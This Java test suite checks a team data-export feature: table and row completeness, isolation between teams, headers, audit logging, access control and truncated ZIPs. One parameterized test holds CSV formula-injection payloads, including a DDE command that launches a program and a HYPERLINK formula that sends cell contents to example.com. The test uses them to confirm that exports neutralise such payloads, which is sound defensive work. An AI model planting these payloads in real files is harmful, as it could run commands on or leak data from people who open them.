package gatehouse.privacy;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIOException;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import gatehouse.team.Role;
import gatehouse.team.TestTeam;
import gatehouse.team.Visitor;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.test.extensions.junit5.annotation.MicronautTest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.sql.SQLException;
import java.util.List;
import java.util.Map;
import java.util.TreeSet;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Everything a team has, in a ZIP file. */
@MicronautTest(transactional = false)
class ExportTest {
    private static final ObjectMapper JSON = new ObjectMapper();

    private final TestTeam team;
    private final TestTeam elsewhere;
    private final Visitor owner;

    ExportTest(EmbeddedServer server) {
        team = TestTeam.on(server);
        elsewhere = TestTeam.on(server);
        owner = team.browserOf(team.owner());
    }

    @Test
    void everyTableIsInItTwiceWithWhatTheTeamHasAndNothingOfOthers() throws IOException {
        Planted own = new Planted("kakapoone");
        Planted others = new Planted("keaone");
        own.handIn(owner, "1");
        others.handIn(elsewhere.browserOf(elsewhere.owner()), "1");

        Unzipped zip = export();

        assertThat(zip.files().keySet())
                .containsExactlyInAnyOrderElementsOf(Stream.concat(
                                Stream.of("README.txt"),
                                KeptTables.OF_TEAM.stream()
                                        .flatMap(table -> Stream.of(
                                                "csv/" + table.name() + ".csv", "json/" + table.name() + ".json")))
                        .toList());
        assertThat(zip.file("README.txt")).contains(team.owner().teamName(), "csv/", "outreach\n");
        assertThat(own.in(zip.file("csv/outreach.csv"))).contains("kakapoonetext", "kakapoonesubject", "kakapoonename");
        assertThat(own.in(zip.file("json/outreach.json"))).contains("kakapoonetext", "kakapoonesubject");
        assertThat(zip.file("json/decision.json")).contains("scam");
        assertThat(zip.file("csv/member.csv")).contains("Olu Owner");
        assertThat(others.in(zip.all())).isEmpty();
    }

    @Test
    void everyRowIsInItHoweverMany() throws IOException, SQLException {
        new Planted("kakapotwo").handIn(owner, "1");
        long id = EveryTable.number("select id from outreach where team_id = " + team.id());
        for (int i = 0; i < 450; i++) {
            EveryTable.execute("insert into decision (team_id, id, outreach_id, member_id, decided_at) values ("
                    + team.id() + ", " + (1_000 + i) + ", " + id + ", 1, utc_timestamp(3))");
        }

        Unzipped zip = export();

        assertThat(records(zip, "decision")).hasSize(452);
        JsonNode rows = JSON.readTree(zip.file("json/decision.json"));
        TreeSet<String> ids = new TreeSet<>();
        rows.forEach(row -> ids.add(row.get("id").asText()));
        assertThat(ids).hasSize(452);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-2+3",
                "@SUM(A1:A9)",
                "=HYPERLINK(\"https://example.com?\"&A1, \"look, \"\"here\"\"\")",
                "＝1+1",
            })
    void noSpreadsheetTakesAMessageForAFormula(String text) throws IOException {
        owner.get("/").post("/inbox", Map.of("text", text, "kind", "message", "form", "f", "subject", text));

        Unzipped zip = export();

        NamedCsvRecord row = records(zip, "outreach").getFirst();
        assertThat(row.getField("text")).isEqualTo("'" + text);
        assertThat(row.getField("subject")).isEqualTo("'" + text);
        assertThat(JSON.readTree(zip.file("json/outreach.json"))
                        .get(0)
                        .get("text")
                        .asText())
                .isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"\t=1", "\r=1", "\n=1"})
    void aCellThatBeginsWithASpaceOfAnotherKindIsNoFormulaEither(String text) {
        assertThat(CsvCell.of(text)).isEqualTo("'" + text);
    }

    @Test
    void aNumberStaysANumber() {
        assertThat(CsvCell.of(-5L)).isEqualTo("-5");
        assertThat(CsvCell.of(null)).isEmpty();
        assertThat(CsvCell.of("")).isEmpty();
        assertThat(CsvCell.of("a=b")).isEqualTo("a=b");
    }

    @Test
    void whatOpensSomethingIsNotInIt() throws IOException {
        String names = export().files().entrySet().stream()
                .filter(file -> file.getKey().startsWith("csv/"))
                .map(file -> file.getValue().lines().findFirst().orElse(""))
                .collect(Collectors.joining(","));

        assertThat(names).doesNotContain("token", "password", "secret", "request_key");
    }

    @Test
    void itIsAFileThatNobodyKeepsOnTheWayAndItIsWrittenDown() {
        owner.get("/team/privacy").post("/team/privacy/export", Map.of());

        assertThat(owner.header("Content-Type")).isEqualTo("application/zip");
        assertThat(owner.header("Content-Disposition")).contains("attachment", "gatehouse.zip");
        assertThat(owner.header("Cache-Control")).isEqualTo("no-store");
        assertThat(owner.get("/team/audit?area=privacy")
                        .page()
                        .select(".rows li")
                        .eachText())
                .singleElement()
                .asString()
                .contains("downloaded everything");
    }

    @Test
    void aMemberGetsNoExport() {
        Visitor member = team.browserOf(team.add(Role.MEMBER));
        member.get("/team/privacy").post("/team/privacy/export", Map.of());

        assertThat(member.status()).isEqualTo(403);
    }

    @Test
    void aFileThatBreaksOffDoesNotLookWhole() {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ExportSource broken = new ExportSource() {
            @Override
            public List<KeptTable> tables() {
                return KeptTables.OF_TEAM;
            }

            @Override
            public List<String> columns(KeptTable table) {
                return List.of("id");
            }

            @Override
            public void forEach(KeptTable table, Consumer<Map<String, @Nullable Object>> row) {
                throw new java.io.UncheckedIOException(new IOException("the database went away"));
            }
        };

        assertThatIOException().isThrownBy(() -> {
            try {
                new ExportZip(broken, "words").writeTo(out);
            } catch (java.io.UncheckedIOException e) {
                throw new IOException(e);
            }
        });
        // The list of contents at the end of a ZIP file begins so.
        assertThat(out.toString(java.nio.charset.StandardCharsets.ISO_8859_1)).doesNotContain("PK\u0001\u0002");
    }

    private Unzipped export() throws IOException {
        return Unzipped.of(owner.get("/team/privacy").download("/team/privacy/export", Map.of()));
    }

    private static List<NamedCsvRecord> records(Unzipped zip, String table) {
        String csv = zip.file("csv/" + table + ".csv");
        assertThat(csv).startsWith("\uFEFF");
        return CsvReader.builder().ofNamedCsvRecord(csv.substring(1)).stream().toList();
    }
}
